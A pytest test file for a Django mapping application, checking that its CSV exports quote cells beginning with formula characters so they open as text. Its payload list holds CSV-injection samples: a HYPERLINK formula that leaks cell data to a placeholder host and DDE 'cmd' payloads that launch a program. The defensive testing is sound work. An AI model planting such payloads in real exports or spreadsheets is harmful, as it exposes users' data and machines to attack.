"""CSV exports never carry a spreadsheet formula (OWASP « CSV injection »): a text cell
that begins with =, +, -, @, a tab or a carriage return is quoted as text; numbers stay
numbers. Checked on the writer and on every export: directory, coverage, gaps, tours."""

import csv
import io
import json
from decimal import Decimal

import pytest
from django.contrib.gis.geos import Point

from carto import csv_export
from carto.actors.models import Actor
from carto.territories.models import Territory
from tests.helpers import body

PAYLOADS = [
    '=HYPERLINK("http://exemple.invalid/?x="&A1;"cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response).decode("utf-8"))))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_written_as_text(payload):
    assert csv_export.cell(payload) == "'" + payload
    line = csv_export.to_text(["nom"], [[payload]]).splitlines()[1]
    assert not line.lstrip('"').startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-1.5, -1.5),
        (-3, -3),
        (Decimal("-0.25"), Decimal("-0.25")),
        (0, 0),
        (True, True),
        (None, ""),
        (["a", "b"], "a|b"),
        (["=x", "b"], "'=x|b"),
        ("Lens", "Lens"),
        ("12 rue de Lens", "12 rue de Lens"),
        ("a=b", "a=b"),
    ],
)
def test_numbers_stay_numbers_and_plain_text_is_unchanged(value, written):
    assert csv_export.cell(value) == written


@pytest.mark.django_db
def test_directory_export_neutralises_names_and_keeps_negative_longitudes(client):
    created = [
        Actor.objects.create(
            name=payload,
            kind_id="association",
            status="published",
            location=Point(-1.5 - index / 100, 47.2, srid=4326),
            source="test",
            source_id=f"csv-{index}",
        )
        for index, payload in enumerate(PAYLOADS)
    ]
    response = client.get("/api/v1/actors/", {"format": "csv", "bbox": "-2,47,-1,48"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    header, *rows = rows_of(response)
    by_id = {int(row[header.index("id")]): row for row in rows}
    assert set(by_id) == {actor.pk for actor in created}
    for actor in created:
        row = by_id[actor.pk]
        assert row[header.index("nom")] == "'" + actor.name
        assert row[header.index("lon")] == str(round(actor.location.x, 6))
        assert row[header.index("lon")].startswith("-")


@pytest.mark.django_db
def test_initiative_export_neutralises_titles(client):
    from carto.actors.models import Initiative

    initiative = Initiative.objects.create(
        title=PAYLOADS[0], status="published", source="test", location=Point(2.8, 50.4)
    )
    response = client.get("/api/v1/initiatives/", {"format": "csv", "q": "hyperlink"})
    header, *rows = rows_of(response)
    row = next(r for r in rows if r[header.index("id")] == str(initiative.pk))
    assert row[header.index("titre")] == "'" + PAYLOADS[0]


@pytest.mark.django_db
@pytest.mark.parametrize("path", ["/api/v1/coverage/", "/api/v1/coverage/gaps/"])
def test_coverage_and_gaps_exports_neutralise_territory_names(client, path):
    Territory.objects.filter(kind="bv", code="62498").update(name=PAYLOADS[1])
    query = {"level": "bv", "format": "csv", "territory": "departement:62"}
    if path.endswith("gaps/"):
        query["limit"] = 5000
    response = client.get(path, query)
    assert response.status_code == 200
    header, *rows = rows_of(response)
    lens = next(r for r in rows if r[header.index("code")] == "62498")
    assert lens[header.index("nom")] == "'" + PAYLOADS[1]
    assert float(lens[header.index("population")]) > 0


@pytest.mark.django_db
def test_tour_export_neutralises_labels_and_keeps_distances_numeric(client):
    data = {
        "start": {"lon": 2.832435, "lat": 50.429256, "label": PAYLOADS[0]},
        "stops": [
            {"lon": 2.777189, "lat": 50.291002, "label": PAYLOADS[1]},
            {"lon": 2.6355, "lat": 50.5303, "label": PAYLOADS[3]},
        ],
        "date_from": "2027-03-01",
        "date_to": "2027-03-12",
    }
    response = client.post(
        "/api/v1/planning/tours/?format=csv", json.dumps(data), content_type="application/json"
    )
    assert response.status_code == 200
    header, *rows = rows_of(response)
    labels = [row[header.index("lieu")] for row in rows]
    assert set(labels) == {"'" + PAYLOADS[0], "'" + PAYLOADS[1], "'" + PAYLOADS[3]}
    for row in rows:
        float(row[header.index("trajet_km")])  # a number, not a quoted text
